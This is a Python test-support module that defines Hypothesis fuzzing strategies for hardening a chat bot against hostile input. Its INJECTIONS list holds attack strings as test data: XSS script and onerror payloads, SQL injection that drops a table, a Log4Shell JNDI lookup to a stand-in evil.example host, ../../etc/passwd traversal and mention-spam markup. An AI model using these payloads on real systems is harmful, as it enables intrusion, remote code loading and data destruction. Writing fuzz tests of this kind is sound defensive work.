"""Hypothesis strategies for hostile input: injections, control characters, huge, wrongly typed.

`CASES` scales every hardening test's example count: 1 in CI (about 2,000 generated cases in
total), more by hand (`STAFFVOICE_FUZZ_SCALE=10 pytest tests/hardening`).
"""

from __future__ import annotations

import os
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

SCALE = float(os.environ.get("STAFFVOICE_FUZZ_SCALE", "1"))


def fuzz_settings(n: int) -> settings:
    """`n` examples (times the scale), no deadline, one server for all of them."""
    return settings(max_examples=max(1, int(n * SCALE)), deadline=None, derandomize=SCALE == 1,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.filter_too_much],
                    database=None, print_blob=True)


# Markup a person might type (or paste) hoping the bot repeats it as live markup.
INJECTIONS = [
    "<!channel>", "<!here>", "<!everyone>", "<!subteam^S0EVIL>", "<@U0EVIL>", "<@W0EVIL|boss>",
    "<#C0EVIL>", "<#C0EVIL|general>", "<https://evil.example|click>", "<http://evil.example>",
    "<mailto:evil@evil.example|HR>", "<!date^1392734382^{date}|x>", "&lt;!channel&gt;",
    "&amp;lt;@U0EVIL&amp;gt;", "<<!channel>>", "< !here >", "<\n!channel>",
    "<at>Everyone</at>", "<at id=\"0\">boss</at>", "[click](https://evil.example)",
    "[click]( https://evil.example )", "<a href=\"https://evil.example\">x</a>",
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "![x](https://evil.example/x.png)",
    '{"type": "section", "text": {"type": "mrkdwn", "text": "<!channel>"}}',
    '[{"type":"actions","elements":[{"type":"button","url":"https://evil.example"}]}]',
    '{"type": "AdaptiveCard", "body": [{"type": "TextBlock", "text": "[x](https://evil.example)"}]}',
    '{"type":"Action.OpenUrl","url":"https://evil.example"}', "*bold* _it_ ~s~ `code` ```pre```",
    "> quote", "\u202eevil\u202c", "\u200b<!channel>", "\x00\x01\x1b[31m", "\r\n\r\n", "\ufeff",
    "%00", "%F0%9F", "' OR 1=1 --", "'; DROP TABLE people; --", "${jndi:ldap://evil.example/a}",
    "{{7*7}}", "../../etc/passwd", "😀" * 50, "ä" * 10, "\t" * 20,
]
CONTROL = st.characters(min_codepoint=0, max_codepoint=0x1F)
ANY_CHAR = st.characters(exclude_categories=("Cs",))  # surrogates come in through raw JSON escapes

injection = st.sampled_from(INJECTIONS)
short_text = st.text(ANY_CHAR, max_size=40)
# Lone surrogates are valid in JSON (`"\\ud800"`) but not in UTF-8: wrongly encoded text.
surrogates = st.text(st.characters(categories=("Cs",)), min_size=1, max_size=3)
mixed = st.lists(st.one_of(injection, short_text, st.text(CONTROL, max_size=5), surrogates),
                 max_size=6).map("".join)
# Oversized: 100 KB and more, built cheaply by repetition.
huge = st.tuples(st.one_of(injection, st.text(ANY_CHAR, min_size=1, max_size=8)),
                 st.integers(100_000, 110_000)).map(lambda p: (p[0] * (p[1] // len(p[0]) + 1))[: p[1]])
nasty_text = st.one_of(injection, mixed, mixed, short_text, huge)
# Text as the bot's own commands see it, with markup around a real command word.
command_words = st.sampled_from(["help", "whoami", "status", "at risk", "overdue", "my milestones",
                                 "feedback", "pulse", "broadcast", "broadcasts", "update",
                                 "milestones for", "results", "feedback list", "grant", ""])
command_text = st.tuples(command_words, nasty_text).map(lambda p: f"{p[0]} {p[1]}".strip())

scalar = st.one_of(st.none(), st.booleans(), st.integers(-(2**70), 2**70),
                   st.floats(allow_nan=True, allow_infinity=True), nasty_text)
json_value: st.SearchStrategy[Any] = st.recursive(
    scalar, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                    st.dictionaries(st.text(max_size=8), inner, max_size=4)),
    max_leaves=12)
wrongly_typed = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False),
                          st.lists(st.integers(), max_size=3),
                          st.dictionaries(st.text(max_size=5), st.integers(), max_size=3))
field_value = st.one_of(nasty_text, nasty_text, wrongly_typed)
# Platform ids (team, user) of the wrong type but within the 64-character id columns: over-long
# ids are a known bug on PostgreSQL (test_regressions.py, xfail) and would drown every example.
short_wrongly_typed = wrongly_typed.filter(lambda v: len(str(v)) <= 60)
